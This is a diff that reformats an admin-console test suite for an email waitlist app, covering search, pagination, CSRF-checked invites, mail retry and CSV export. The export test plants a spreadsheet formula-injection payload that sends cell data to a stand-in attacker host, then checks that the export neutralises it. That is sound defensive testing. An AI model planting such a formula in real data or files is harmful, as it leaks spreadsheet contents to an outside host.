@@ -44,15 +44,22 @@ const post = (path: string, fields: Record<string, string>) =>
     .set('Cookie', cookie)
     .type('form')
     .send({ csrf, ...fields });
-const addresses = (html: string) => [...html.matchAll(/<tr><td data-label="Address">([^<]+@[^<]+)<\/td>/g)].map((m) => m[1]);
+const addresses = (html: string) =>
+  [...html.matchAll(/<tr><td data-label="Address">([^<]+@[^<]+)<\/td>/g)].map((m) => m[1]);
 
 it('searches by a substring of the address in any case, filters by state, and sorts either way', async () => {
-  for (const email of ['Anna@Example.org', 'bob@example.org', 'hannah@other.org']) await store.signups.add({ email, description: 'x' });
+  for (const email of ['Anna@Example.org', 'bob@example.org', 'hannah@other.org'])
+    await store.signups.add({ email, description: 'x' });
   const search = await get('/admin/signups?q=ANN');
   expect(search.status).toBe(200);
-  expect(search.text).toMatch(/<input class="field-input" id="q" type="search" name="q" value="ANN"\/>/);
+  expect(search.text).toMatch(
+    /<input class="field-input" id="q" type="search" name="q" value="ANN"\/>/,
+  );
   expect(addresses(search.text)).toEqual(['hannah@other.org', 'Anna@Example.org']);
-  expect(addresses((await get('/admin/signups?q=ann&order=oldest')).text)).toEqual(['Anna@Example.org', 'hannah@other.org']);
+  expect(addresses((await get('/admin/signups?q=ann&order=oldest')).text)).toEqual([
+    'Anna@Example.org',
+    'hannah@other.org',
+  ]);
   // LIKE's wildcards are taken literally.
   expect(addresses((await get('/admin/signups?q=%25')).text)).toEqual([]);
   expect(addresses((await get('/admin/signups?state=invited')).text)).toEqual([]);
@@ -60,7 +67,11 @@ it('searches by a substring of the address in any case, filters by state, and so
 });
 
 it('pages 50 at a time with keyset pagination, losing and repeating nothing', async () => {
-  for (let i = 0; i < 120; i++) await store.signups.add({ email: `user${String(i).padStart(3, '0')}@example.org`, description: '' });
+  for (let i = 0; i < 120; i++)
+    await store.signups.add({
+      email: `user${String(i).padStart(3, '0')}@example.org`,
+      description: '',
+    });
   const seen: string[] = [];
   let path = '/admin/signups?order=oldest';
   for (let pageNo = 0; pageNo < 3; pageNo++) {
@@ -84,12 +95,19 @@ it('invites through the same operation as the CLI: a real mail with a key that a
   expect(res.text).toContain('zoe@example.org: sent');
   const [mail] = await smtp.waitFor(1, 5_000);
   const key = /^([A-Za-z0-9_-]{32})$/m.exec(mail.parsed.text ?? '')![1];
-  expect(await store.subscriptions.activate('zoe@example.org', key)).toEqual({ outcome: 'active', email: 'zoe@example.org' });
+  expect(await store.subscriptions.activate('zoe@example.org', key)).toEqual({
+    outcome: 'active',
+    email: 'zoe@example.org',
+  });
   expect((await get('/admin/signups')).text).toContain('>Invite again</button>');
   const [entry] = await store.audit.list({ limit: 1 });
   expect(entry).toMatchObject({ account: 'ops@example.org', action: 'invite', addresses: 1 });
   // Without the session's CSRF token: refused, nothing sent.
-  const forged = await request(app).post('/admin/signups/invite').set('Cookie', cookie).type('form').send({ email: 'zoe@example.org', again: '1' });
+  const forged = await request(app)
+    .post('/admin/signups/invite')
+    .set('Cookie', cookie)
+    .type('form')
+    .send({ email: 'zoe@example.org', again: '1' });
   expect(forged.status).toBe(403);
   expect(smtp.received).toHaveLength(1);
 });
@@ -116,7 +134,15 @@ it('removes only after the confirmation button, and the audit then names no addr
 
 it('lists dead mail with a Retry button that queues it again, as `waitlist mail retry` does', async () => {
   await store.signups.add({ email: 'late@example.org', description: '' });
-  const compose = (to: string, key: string) => ({ from: 'a@b.co', to, subject: 's', text: key, html: '', messageId: `<${key}@x>`, date: 'x' });
+  const compose = (to: string, key: string) => ({
+    from: 'a@b.co',
+    to,
+    subject: 's',
+    text: key,
+    html: '',
+    messageId: `<${key}@x>`,
+    date: 'x',
+  });
   const invited = await store.subscriptions.invite('late@example.org', { again: false, compose });
   if (invited.outcome !== 'invited') throw new Error(invited.outcome);
   time += 8 * 24 * 3_600_000; // past QUEUE_MAX_AGE_HOURS: the next failure sets it aside as dead
@@ -125,7 +151,9 @@ it('lists dead mail with a Retry button that queues it again, as `waitlist mail 
   await logIn();
   const listing = await get('/admin/mail');
   expect(listing.status).toBe(200);
-  expect(listing.text).toMatch(/<td data-label="To">late@example\.org<\/td><td data-label="State"><span class="console-word">dead<\/span><\/td>/);
+  expect(listing.text).toMatch(
+    /<td data-label="To">late@example\.org<\/td><td data-label="State"><span class="console-word">dead<\/span><\/td>/,
+  );
   expect(listing.text).not.toContain(invited.mail.message.text); // never the key
   const retried = await post('/admin/mail/retry', { id: String(invited.mail.id) });
   expect(retried.status).toBe(200);
@@ -134,27 +162,41 @@ it('lists dead mail with a Retry button that queues it again, as `waitlist mail 
   expect((await post('/admin/mail/retry', { id: String(invited.mail.id) })).status).toBe(409);
   expect((await post('/admin/outbox/retry', { id: 'x' })).status).toBe(409);
   expect((await get('/admin/outbox')).text).toContain('Nothing waiting.');
-  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({ action: 'retry mail', addresses: 1 });
+  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
+    action: 'retry mail',
+    addresses: 1,
+  });
 });
 
 it('"Invite the next N" shows who first, then invites exactly those through the CLI\'s operation', async () => {
-  for (const email of ['first@example.org', 'second@example.org', 'third@example.org']) await store.signups.add({ email, description: '' });
+  for (const email of ['first@example.org', 'second@example.org', 'third@example.org'])
+    await store.signups.add({ email, description: '' });
   const preview = await get('/admin/signups/next?n=2');
   expect(preview.status).toBe(200);
-  expect([...preview.text.matchAll(/<li>([^<]+)<\/li>/g)].map((m) => m[1])).toEqual(['first@example.org', 'second@example.org']);
+  expect([...preview.text.matchAll(/<li>([^<]+)<\/li>/g)].map((m) => m[1])).toEqual([
+    'first@example.org',
+    'second@example.org',
+  ]);
   expect(smtp.received).toHaveLength(0);
   const seen = (html: string) => /name="seen" value="([^"]+)"/.exec(html)![1];
   const res = await post('/admin/signups/next', { n: '2', seen: seen(preview.text) });
   expect(res.text).toContain('Invited 2');
   const mails = await smtp.waitFor(2, 5_000);
-  expect(mails.map((m) => (m.parsed.to as { text: string }).text).sort()).toEqual(['first@example.org', 'second@example.org']);
-  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({ action: 'invite', addresses: 2 });
+  expect(mails.map((m) => (m.parsed.to as { text: string }).text).sort()).toEqual([
+    'first@example.org',
+    'second@example.org',
+  ]);
+  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
+    action: 'invite',
+    addresses: 2,
+  });
   expect((await get('/admin/signups/next?n=0')).status).toBe(400);
   expect((await post('/admin/signups/next', { n: 'lots' })).status).toBe(400);
 });
 
 it('"Invite the next N" invites nobody when the list changed after the preview, and shows the new one to approve', async () => {
-  for (const email of ['first@example.org', 'second@example.org', 'third@example.org']) await store.signups.add({ email, description: '' });
+  for (const email of ['first@example.org', 'second@example.org', 'third@example.org'])
+    await store.signups.add({ email, description: '' });
   const preview = await get('/admin/signups/next?n=2');
   const seen = (html: string) => /name="seen" value="([^"]+)"/.exec(html)![1];
   // Meanwhile the second leaves: the next two are now first and third.
@@ -162,18 +204,28 @@ it('"Invite the next N" invites nobody when the list changed after the preview, 
   const stale = await post('/admin/signups/next', { n: '2', seen: seen(preview.text) });
   expect(stale.status).toBe(409);
   expect(stale.text).toContain('The list changed since you looked at it; nobody was invited.');
-  expect([...stale.text.matchAll(/<li>([^<]+)<\/li>/g)].map((m) => m[1])).toEqual(['first@example.org', 'third@example.org']);
+  expect([...stale.text.matchAll(/<li>([^<]+)<\/li>/g)].map((m) => m[1])).toEqual([
+    'first@example.org',
+    'third@example.org',
+  ]);
   expect(await store.subscriptions.stateOf('third@example.org')).toBe('waitlisted');
   expect(await store.subscriptions.stateOf('first@example.org')).toBe('waitlisted');
   const approved = await post('/admin/signups/next', { n: '2', seen: seen(stale.text) });
   expect(approved.text).toContain('Invited 2');
   const mails = await smtp.waitFor(2, 5_000);
-  expect(mails.map((m) => (m.parsed.to as { text: string }).text).sort()).toEqual(['first@example.org', 'third@example.org']);
+  expect(mails.map((m) => (m.parsed.to as { text: string }).text).sort()).toEqual([
+    'first@example.org',
+    'third@example.org',
+  ]);
 });
 
 it("exports the CLI's CSV as a download, and records how many rows went out", async () => {
-  for (let i = 0; i < 3; i++) await store.signups.add({ email: `row${i}@example.org`, description: 'a, "quoted" note' });
-  await store.signups.add({ email: 'formula@example.org', description: '=HYPERLINK("https://evil.example/?"&A2,"ok")' });
+  for (let i = 0; i < 3; i++)
+    await store.signups.add({ email: `row${i}@example.org`, description: 'a, "quoted" note' });
+  await store.signups.add({
+    email: 'formula@example.org',
+    description: '=HYPERLINK("https://evil.example/?"&A2,"ok")',
+  });
   const res = await get('/admin/signups/export');
   expect(res.status).toBe(200);
   expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -182,6 +234,11 @@ it("exports the CLI's CSV as a download, and records how many rows went out", as
   expect(lines[0]).toBe('email,description,created_at,invited_at,activated_at,confirmed_at,state');
   expect(lines.filter((line) => line.includes('"a, ""quoted"" note"'))).toHaveLength(3);
   // Opened in a spreadsheet, this description is text, not a formula.
-  expect(lines.find((line) => line.startsWith('formula@'))).toMatch(/^formula@example\.org,"'=HYPERLINK\(""https/);
-  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({ action: 'export', addresses: 4 });
+  expect(lines.find((line) => line.startsWith('formula@'))).toMatch(
+    /^formula@example\.org,"'=HYPERLINK\(""https/,
+  );
+  expect((await store.audit.list({ limit: 1 }))[0]).toMatchObject({
+    action: 'export',
+    addresses: 4,
+  });
 });
